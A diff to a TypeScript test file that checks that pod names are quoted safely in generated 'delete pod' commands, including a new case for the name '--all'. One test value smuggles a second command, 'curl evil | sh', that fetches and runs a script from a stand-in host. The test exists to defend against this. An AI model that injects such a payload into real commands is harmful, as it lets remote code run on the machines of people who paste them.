@@ -8,8 +8,9 @@ const actionFor = (pod: string): string =>
     .action;
 
 test.each([
-  ['cart-7c9f8d6b5-x2x7p', 'delete pod cart-7c9f8d6b5-x2x7p'],
-  ["x; curl evil | sh '", "delete pod 'x; curl evil | sh '\\'''"],
+  ['cart-7c9f8d6b5-x2x7p', 'delete pod/cart-7c9f8d6b5-x2x7p'],
+  ["x; curl evil | sh '", "delete 'pod/x; curl evil | sh '\\'''"],
+  ['--all', 'delete pod/--all'],
 ])('a command that people paste has the name %s as one word', (pod, command) => {
   expect(actionFor(pod).endsWith(command)).toBe(true);
 });
